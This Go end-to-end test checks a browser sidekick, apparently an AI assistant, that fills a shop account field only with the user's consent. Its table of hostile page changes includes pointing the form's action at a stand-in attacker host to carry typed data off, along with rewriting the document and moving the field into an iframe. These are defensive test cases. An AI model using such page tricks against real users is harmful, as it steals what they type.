package e2e

import (
	"testing"
	"time"

	"sidekick/e2e/site"

	"github.com/stretchr/testify/require"
)

// TestFillJourneyThePageChangesUnderTheCard: what the person agreed to is one
// field of one document. Whatever the page puts in its place while they read,
// nothing is typed there. Before: what was typed is nobody's to see once the page
// comes back as it was left, and is opened again.
func TestFillJourneyThePageChangesUnderTheCard(t *testing.T) {
	t.Parallel()
	const account = "https://" + site.ShopHost + "/shop/account"
	f := startShop(t, script{turn("fill", fillStep("shop.user", "#user"), code()), turn("", use("read_page"), echo())})
	tab, panel := f.panel(account)
	f.grantEverySite(panel)
	const (
		field = `const field = document.querySelector('#user'); `
		typed = `[document, ...[...document.querySelectorAll('iframe')].map((frame) => frame.contentDocument)].flatMap((all) => [...all.querySelectorAll('input')]).filter((one) => one.value !== '').length`
	)
	rows := []struct{ name, change, want string }{
		{"a document that is opened anew", `const html = document.documentElement.outerHTML; document.open(); document.write(html); document.close();`, "document_changed"},
		{"a form that goes elsewhere", field + `field.form.action = 'https://` + site.EvilHost + `/take';`, "document_changed"},
		{"a frame that the field goes into", field + `const frame = document.body.appendChild(document.createElement('iframe')); frame.contentDocument.body.append(frame.contentDocument.adoptNode(field));`, "selector_no_match"},
	}
	var fields int
	require.NoError(t, panel.Send("fill"))
	require.NoError(t, panel.Press("Not now"))
	answer, err := panel.Answer(20 * time.Second)
	require.NoError(t, err)
	require.Equal(t, "consent_refused", answer)
	require.NoError(t, tab.Eval(typed, &fields))
	require.Zero(t, fields, "a no means that nothing is typed")

	answer, _ = f.agree(panel, "fill")
	require.Empty(t, answer)
	require.NoError(t, tab.Eval("void (globalThis.left = true, location.href = 'https://elsewhere.test/shop/cart')", nil))
	require.NoError(t, tab.Until("location.hostname === 'elsewhere.test' && document.readyState === 'complete'", 20*time.Second))
	require.Contains(t, f.ask(panel, "read where it went"), "closed to the sidekick")
	require.NoError(t, tab.Eval("void history.back()", nil))
	require.NoError(t, tab.Until("globalThis.left === true", 20*time.Second), "the very document comes back")
	require.Contains(t, f.ask(panel, "read what came back"), "closed to the sidekick")
	require.NoError(t, panel.Press("Reopen this page"))
	require.NoError(t, panel.Until(`document.querySelector('[role=status]').dataset.access === 'granted'`, 20*time.Second))
	require.NotContains(t, f.ask(panel, "read it again"), "7731")
	var kept string
	require.NoError(t, tab.Eval("document.querySelector('#user').value", &kept))
	require.Contains(t, kept, "7731", "it is there, and not read")

	for _, row := range rows {
		require.NoError(t, tab.Navigate(account))
		require.NoError(t, panel.Send("fill"))
		card(t, panel, "consent-card")
		require.NoError(t, tab.Eval("(() => { "+row.change+" })()", nil))
		require.NoError(t, panel.Press("Allow"))
		answer, err = panel.Answer(20 * time.Second)
		require.NoError(t, err)
		require.Equal(t, row.want, answer, row.name)
		require.NoError(t, tab.Eval(typed, &fields))
		require.Zero(t, fields, row.name)
	}
}
